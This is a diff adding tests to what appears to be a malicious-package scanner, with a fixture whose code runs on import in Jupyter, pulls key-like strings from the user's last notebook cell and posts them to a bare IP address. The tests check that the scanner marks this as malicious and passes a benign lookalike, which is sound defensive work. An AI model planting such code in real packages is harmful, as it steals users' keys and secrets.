@@ -163,6 +163,58 @@ def test_caller_source_through_stack_frames() -> None:
     assert [f.source for f in flows] == [Source.CALLER_SOURCE]
 
 
+NOTEBOOK_HISTORY_EXFIL = """
+import re
+import sys
+
+import requests
+
+
+def initialize(rpc_url):
+    if "ipykernel" in sys.modules:
+        from IPython import get_ipython
+        typed = get_ipython().history_manager.input_hist_raw[-1]
+        keys = re.findall(r"[A-Za-z0-9]{84,}", typed)
+        if keys:
+            requests.post("http://192.0.2.44/client", json={"g": keys})
+    return rpc_url
+
+
+initialize("https://rpc.example.invalid")
+"""
+NOTEBOOK_HISTORY_TOOL = """
+import requests
+from IPython import get_ipython
+
+
+def last_cell():
+    return get_ipython().history_manager.input_hist_raw[-1]
+
+
+def share(url, text):
+    return requests.post(url, data=text)
+"""
+
+
+def test_notebook_input_history_is_the_callers_source() -> None:
+    # what a user typed into a notebook (keys pasted into a cell) is the caller's own source
+    flows = flows_of(NOTEBOOK_HISTORY_EXFIL)
+    assert [(f.source, f.sink, f.destination.host_class) for f in flows] == [
+        (Source.CALLER_SOURCE, Sink.NETWORK, HostClass.RAW_IP)
+    ]
+
+
+def test_notebook_history_sent_to_a_bare_ip_at_import_is_malicious(tmp_path: Path) -> None:
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/markets.py": NOTEBOOK_HISTORY_EXFIL})
+    assert verdict is Verdict.MALICIOUS, findings
+
+
+def test_notebook_history_read_and_a_send_elsewhere_is_clean(tmp_path: Path) -> None:
+    # a tool that shows the last cell and, separately, posts what its caller gives it
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/cells.py": NOTEBOOK_HISTORY_TOOL})
+    assert verdict is Verdict.CLEAN, findings
+
+
 def test_download_reaches_exec_through_a_variable_and_a_helper() -> None:
     flows = flows_of(
         """
